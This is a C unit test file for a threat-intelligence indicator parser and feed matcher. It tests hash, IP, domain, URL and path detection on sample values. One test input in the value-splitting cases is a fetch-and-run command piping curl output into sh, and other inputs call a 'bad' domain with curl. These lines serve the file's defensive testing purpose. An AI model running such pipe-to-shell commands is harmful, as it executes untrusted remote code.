// SPDX-License-Identifier: Apache-2.0
// What values of events look like, and the parts that are in them.

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>

#include "base/own.h"
#include "intel/feeds.h"
#include "intel/guess.h"

#define MD5 "d41d8cd98f00b204e9800998ecf8427e"
#define SHA1 "da39a3ee5e6b4b0d3255bfef95601890afd80709"
#define SHA256 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

static void types_are_guessed_from_letters(void **state)
{
	static const struct {
		const char *text;
		enum indicator_type type;
	} cases[] = {
		{MD5, INDICATOR_md5},
		{SHA1, INDICATOR_sha1},
		{SHA256, INDICATOR_sha256},
		{"d41d8cd98f00b204e9800998ecf8427", INDICATOR_TYPES},
		{"1.2.3.4", INDICATOR_ipv4},
		{"1.2.3.400", INDICATOR_TYPES},
		{"2001:db8::1", INDICATOR_ipv6},
		{"::ffff:1.2.3.4", INDICATOR_ipv4},
		{"12:30:15", INDICATOR_TYPES},
		{"example.org", INDICATOR_domain},
		{"example.sh", INDICATOR_domain},
		{"cmd.exe", INDICATOR_path},
		{"PAYLOAD.DLL", INDICATOR_path},
		{"http://example.org/x", INDICATOR_url},
		{"example.org/x.php", INDICATOR_url},
		{"text/html", INDICATOR_TYPES},
		{"/usr/bin/curl", INDICATOR_path},
		{"C:\\Windows\\x.exe", INDICATOR_path},
		{"\\\\server\\share\\x", INDICATOR_path},
		{"who@example.org", INDICATOR_email},
		{"who@host", INDICATOR_TYPES},
		{"4688", INDICATOR_TYPES},
		{"S-1-5-18", INDICATOR_TYPES},
		{"", INDICATOR_TYPES},
		{"some words of text.", INDICATOR_TYPES},
		{"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", INDICATOR_TYPES},
	};

	for (size_t i = 0; i < array_size(cases); i++)
		assert_int_equal(indicator_guess(text_of(cases[i].text)), cases[i].type);
}

static void values_are_taken_apart(void **state)
{
	static const struct {
		const char *value, *parts;
	} cases[] = {
		{"SHA1=" SHA1 ",MD5=" MD5 ",SHA256=" SHA256 ",IMPHASH=" MD5,
			"sha1=" SHA1 " md5=" MD5 " sha256=" SHA256 " imphash=" MD5},
		{"MD5=" MD5 ",SSDEEP=3:a:b,TLSH=x,SHA256=" SHA256,
			"md5=" MD5 " sha256=" SHA256},
		{"MD5=" SHA1, ""},
		{"192.0.2.1:443", "ipv4=192.0.2.1"},
		{"[2001:db8::1]:443", "ipv6=2001:db8::1"},
		{"example.org:8080", "domain=example.org"},
		{"type:  5 a.example.org;::ffff:192.0.2.7;",
			"domain=a.example.org ipv4=::ffff:192.0.2.7"},
		{"curl -s \"http://example.org/a\" | sh; wget https://b.example/c.",
			"url=http://example.org/a url=https://b.example/c"},
		{"/usr/bin/x;y", "path=/usr/bin/x;y"},
		{"a", ""},
	};

	for (size_t i = 0; i < array_size(cases); i++) {
		struct text rest = text_of(cases[i].value);
		struct indicator_part part;
		char parts[512] = "";

		while (indicator_part(&rest, &part)) {
			size_t n = strlen(parts);

			snprintf(parts + n, sizeof parts - n, "%s%s=%.*s", n ? " " : "",
				indicator_names[part.type], (int)part.text.n, part.text.at);
		}
		assert_string_equal(parts, cases[i].parts);
	}
}

static void on_problem(void *context, const struct feed_problem *problem)
{
	assert_null(problem);
}

static void a_value_is_asked_for_all_that_it_holds(void **state)
{
	static const struct {
		const char *value, *found; /* the part of the last hit */
		size_t hits;
	} cases[] = {
		{"SHA1=" SHA1 ",MD5=" MD5, SHA1, 1},
		{"curl http://www.bad.example/x http://good.example/", "www.bad.example", 1},
		{"curl http://192.0.2.9:81/x", "192.0.2.9", 1},
		{"curl http://[2001:db8::9]/x", "2001:db8::9", 1},
		{"www.bad.example", "www.bad.example", 1},
		{"http://good.example/", NULL, 0},
	};
	until_return(feeds_free) struct feeds *feeds = feeds_new(on_problem, NULL);
	struct error err;

	feeds_add(feeds, TEXT("x"),
		TEXT(SHA1 "\nbad.example\n192.0.2.9\n2001:db8::9\n"));
	until_return(indicators_close) struct indicators *set = feeds_set(feeds, &err);
	for (size_t i = 0; i < array_size(cases); i++) {
		struct indicator_hit hits[4];
		struct text found[4];
		size_t n = indicator_find_parts(set, text_of(cases[i].value), INDICATOR_NO_TIME,
			hits, found, 4);

		assert_int_equal(n, cases[i].hits);
		if (n)
			assert_true(text_is(found[n - 1], cases[i].found));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(types_are_guessed_from_letters),
		cmocka_unit_test(values_are_taken_apart),
		cmocka_unit_test(a_value_is_asked_for_all_that_it_holds),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
